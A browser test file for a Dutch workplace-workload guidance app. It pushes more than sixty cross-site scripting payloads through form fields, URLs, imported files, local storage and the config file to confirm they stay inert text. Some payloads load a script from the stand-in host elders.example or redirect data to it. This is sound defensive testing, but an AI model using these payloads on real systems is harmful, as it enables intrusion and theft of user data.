// Whatever a reader, a link, a file or a host puts in, it stays text: sixty pieces of code through every way in. The policy is off,
// so that it is the guide that withstands them and not the browser.
import assert from "node:assert/strict";
import test from "node:test";
import { follow, setup } from "./harness.mjs";

const own = "wegwijzer.config.json";
let config = "{}";
const world = setup({
  change: async (path, response) => path.endsWith(own) && (response.writeHead(200, { "content-type": "application/json" }).end(config), true),
});

const call = "globalThis.ran=1";
const away = "https://elders.example/";
const handlers = [
  "img src=x onerror", "svg onload", "body onload", "video src=x onerror", "audio src=x onerror", "input autofocus onfocus", "details open ontoggle",
  "iframe onload", "select autofocus onfocus", "textarea autofocus onfocus", "marquee onstart", "video><source onerror", "object data=x onerror",
  "style onload", "link rel=stylesheet href=x onerror", "div style=animation-name:x onanimationstart", "a href=# onmouseover", "button onclick",
  "p contenteditable onblur", "dialog open onclose", "form onsubmit", "math><mtext onclick", "img srcset=x onerror", "embed src=x onerror",
];
const payloads = [
  ...handlers.map((handler) => `<${handler}=${call}>`),
  `<script>${call}</script>`, `<ScRiPt>${call}</sCrIpT>`, `<script src=${away}x></script>`, `<<script>${call}//<</script>`, `</script><script>${call}</script>`,
  `</textarea><script>${call}</script>`, `</title><script>${call}</script>`, `</style><img src=x onerror=${call}>`, `--><img src=x onerror=${call}>`,
  `]]><img src=x onerror=${call}>`, `"><img src=x onerror=${call}>`, `'><img src=x onerror=${call}>`, `\`><img src=x onerror=${call}>`,
  `" onfocus=${call} autofocus x="`, `' onfocus=${call} autofocus x='`, `" style="background:url(${away}x)`, `javascript:${call}`, `JaVaScRiPt:${call}`,
  `java\tscript:${call}`, `data:text/html,<script>${call}</script>`, `vbscript:${call}`, `<a href="javascript:${call}">klik</a>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`, `<iframe src="javascript:parent.ran=1"></iframe>`, `<form action=${away}><input name=x></form>`,
  `<meta http-equiv=refresh content="0;url=${away}">`, `<base href=${away}>`, `<link rel=stylesheet href=${away}x.css>`, `<img src=${away}x>`,
  `<svg><script>${call}</script></svg>`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`, `<math><maction actiontype=statusline xlink:href="javascript:${call}">x`,
  `<template><script>${call}</script></template>`, `&lt;img src=x onerror=${call}&gt;`, `&#60;img src=x onerror=${call}&#62;`, `\\u003cimg src=x onerror=${call}\\u003e`,
  `%3Cimg%20src=x%20onerror=${call}%3E`, `{{constructor.constructor('${call}')()}}`, `\${${call}}`, `[klik](javascript:${call})`, `![x](x" onerror="${call})`,
];

test("there are at least sixty different ones", () => {
  assert.ok(new Set(payloads).size >= 60, String(new Set(payloads).size));
});

async function open(path) {
  const page = await world.open(path, { context: { bypassCSP: true } });
  page.foreign = [];
  page.on("request", (request) => !request.url().startsWith(world.server.origin) && !/^(blob|data):/.test(request.url()) && page.foreign.push(request.url()));
  page.on("dialog", (dialog) => (page.foreign.push(dialog.message()), dialog.dismiss()));
  return page;
}

/// Nothing ran, nothing was asked of another origin, and nothing in the page is markup that the guide does not make.
async function isText(page, what) {
  const odd = await page.evaluate((away) => {
    const inside = [...document.querySelectorAll("*")].filter((element) =>
      /^(marquee|object|embed|base|math|audio|video)$/.test(element.localName)
      || (element.localName === "script" && !/^[./]*(early|boot)-[0-9a-f]{16}\.js$/.test(element.getAttribute("src")))
      || (element.localName === "iframe" && !element.matches(".preview"))
      || [...element.attributes].some(({ name, value }) => name.startsWith("on") || (/^(href|src|action)$/.test(name) && (value.startsWith(away) || /^\s*(java\s*script|vbscript|data:text)/i.test(value)))),
    );
    return [globalThis.ran ?? null, inside.map((element) => element.outerHTML.slice(0, 200))];
  }, away);
  assert.deepEqual(odd, [null, []], what);
  assert.deepEqual(page.foreign, [], what);
  assert.ok(page.url().startsWith(world.server.origin), what);
}

test("one that became markup would be seen", async () => {
  const page = await open("toegankelijkheid/");
  for (const payload of [payloads[0], `<a href="javascript:${call}">klik</a>`, `<base href=${away}>`]) {
    await page.locator("main").evaluate((main, payload) => (main.innerHTML = payload), payload);
    await assert.rejects(isText(page, payload));
  }
  await page.context().close();
});

/// Types into every field that is shown, each time another one.
async function typeAll(page, round) {
  return page.evaluate(({ payloads, round }) => {
    const fields = [...document.querySelectorAll("textarea, input:not([type]), input[type=text], input[type=search]")].filter((field) => !field.readOnly && field.checkVisibility());
    fields.forEach((field, index) => {
      if (!field.isConnected) return;
      const kind = field.localName === "textarea" ? HTMLTextAreaElement : HTMLInputElement;
      field.focus();
      Object.getOwnPropertyDescriptor(kind.prototype, "value").set.call(field, payloads[(index + round) % payloads.length]);
      for (const name of ["input", "change"]) field.dispatchEvent(new Event(name, { bubbles: true }));
      field.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true, cancelable: true }));
      field.blur();
    });
    return fields.length;
  }, { payloads, round });
}

const frames = (page) => page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));

/// Where there are fields, how many at least, and what brings them out.
const planner = async (page, step) => {
  await page.waitForSelector(".planner");
  if (step) await page.getByRole("button", { name: step }).first().click();
};
const places = {
  "zoeken/": [1],
  "inbedden/": [1, () => {}, (page) => page.getByRole("button", { name: "Kijk na" }).click()],
  "gegevens/": [1, async (page) => {
    for (const fold of await page.locator("main summary").all()) await fold.click();
  }],
  "zelfcheck/": [3, async (page) => {
    const heading = page.locator("h1");
    for (let at = await heading.innerText(); at !== "Gespreksbriefje"; at = await heading.innerText()) {
      await page.locator("button.sign").click();
      await page.waitForFunction((at) => document.querySelector("h1").innerText !== at, at);
    }
    await page.locator("summary", { hasText: "Verander de zinnen" }).click();
  }],
  "werksessie/planner/": [3, (page) => planner(page)],
  "werksessie/planner/#vastleggen": [4, (page) => planner(page, "Vastleggen"), (page) => page.getByRole("button", { name: "Verslag" }).first().click()],
};
for (const [path, [least, begin = () => {}, after = () => {}]] of Object.entries(places)) {
  test(`what is typed stays text: ${path}`, { timeout: 120_000 }, async () => {
    const page = await open(path);
    await begin(page);
    const count = await typeAll(page, 0);
    assert.ok(count >= least, `${count} fields`);
    // Every piece comes by at every page; where there are more fields they each take another one.
    for (let round = 1; round < payloads.length; round += 1) {
      await typeAll(page, round);
      if (round % 6 === 0) await frames(page);
    }
    await after(page);
    await frames(page);
    await isText(page, path);
    await page.reload();
    await page.waitForSelector("html[data-app=ready]");
    await begin(page);
    await frames(page);
    await isText(page, `${path}, come back to`);
    assert.doesNotMatch(decodeURIComponent(page.url()) + (await page.title()), /globalThis/);
    await page.context().close();
  });
}

test("what an address says stays text: words to search, parameters, fragment, path, inside the app and loaded anew", { timeout: 240_000 }, async () => {
  const page = await open("zoeken/");
  const ways = (text) => [`zoeken/?q=${text}`, `kort/stap-1/?embed=${text}&thema=${text}&kop=${text}&${text}=1`, `kort/stap-1/#${text}`, `werksessie/planner/#${text}`, text];
  for (const [index, payload] of payloads.entries()) {
    const all = ways(encodeURIComponent(payload));
    // An address that is not ours is the host's: it is never shown without being loaded.
    for (const path of all.slice(0, -1)) await follow(page, world.url(path));
    await frames(page);
    await isText(page, payload);
    // Each is loaded anew in one of the ways, and every way has its share.
    await page.goto(world.url(all[index % all.length]));
    await page.waitForSelector("html[data-app=ready]");
    await frames(page);
    await isText(page, `${payload}, loaded`);
  }
  await page.context().close();
});

test("what a file says stays text, and so does its name", { timeout: 120_000 }, async () => {
  const page = await open("gegevens/");
  const file = (data, more) => JSON.stringify({ format: "werkdruk-wegwijzer", version: 1, app: "0.1.0", exportedAt: "2026-11-03T10:00:00.000Z", data, ...more });
  const record = (data) => ({ v: 1, rev: 1, saved: "2026-11-20T09:00:00.000Z", data });
  for (const payload of payloads) {
    const files = [
      file({ ticks: record({ ticked: [payload] }) }), file({ [payload]: record({}) }), file({ ticks: payload }, { app: payload, exportedAt: payload }),
      file({ circles: record({ factors: [payload] }), place: record({ last: payload, chosen: payload }) }), payload,
    ];
    for (const contents of files) {
      await page.getByLabel("Bestand met je kopie").setInputFiles({ name: `${payload}.json`.replaceAll("/", "_"), mimeType: "application/json", buffer: Buffer.from(contents) });
    }
    await isText(page, payload);
    // A good copy comes after them: what is said then is said of the last.
    await page.getByLabel("Bestand met je kopie").setInputFiles({ name: "kopie.json", mimeType: "application/json", buffer: Buffer.from(file({ circles: record({ factors: ["tijdsdruk"] }) })) });
    await page.getByRole("button", { name: "Laat alles zo" }).click();
    await isText(page, payload);
  }
  assert.deepEqual(await page.evaluate(() => Object.values(localStorage).filter((text) => text.includes("globalThis"))), []);
  await page.context().close();
});

test("what is kept on the device stays text when something else wrote it there", async () => {
  const page = await open("gegevens/");
  const keys = ["ticks", "circles", "statuses", "place", "copies", "settings", "selfcheck", "session:een", "notes"];
  for (let at = 0; at < payloads.length; at += keys.length) {
    await page.evaluate(({ keys, payloads }) => {
      localStorage.clear();
      keys.forEach((key, index) => {
        const payload = payloads[index % payloads.length];
        const texts = [payload, JSON.stringify({ v: 1, rev: 1, saved: payload, data: { ticked: [payload], factors: [payload], last: payload, chosen: payload } }), JSON.stringify({ v: 99, rev: 1, saved: payload, data: payload })];
        localStorage.setItem(`werkdruk-wegwijzer:${key}`, texts[index % texts.length]);
        localStorage.setItem(`werkdruk-wegwijzer:${payload}`, payload);
      });
    }, { keys, payloads: payloads.slice(at) });
    await page.reload();
    await page.waitForSelector("html[data-app=ready]");
    await frames(page);
    await isText(page, payloads[at]);
  }
  await page.context().close();
});

test("what the organisation's file says stays text", { timeout: 120_000 }, async () => {
  const page = await open("zelfcheck/");
  for (const payload of payloads) {
    const contact = { naam: payload, telefoon: payload, email: payload, link: payload, toelichting: payload };
    config = JSON.stringify({
      organisatie: payload, logo: payload, accentkleur: payload, accentkleurDonker: payload, [payload]: payload,
      contacten: { bedrijfsarts: contact, or: contact, [payload]: contact }, links: [{ titel: payload, adres: payload, toelichting: payload }, { titel: payload, adres: "/x" }],
    });
    // Each file has a field that nobody knows: the console says so once the rest is used.
    await Promise.all([page.waitForEvent("console", (message) => message.text().startsWith(own)), page.reload()]);
    await frames(page);
    await isText(page, payload);
  }
  await page.goto(world.url("inbedden/"));
  await page.locator(".config-found .notice").waitFor();
  await isText(page, "on inbedden/");
  config = "{}";
  await page.context().close();
});
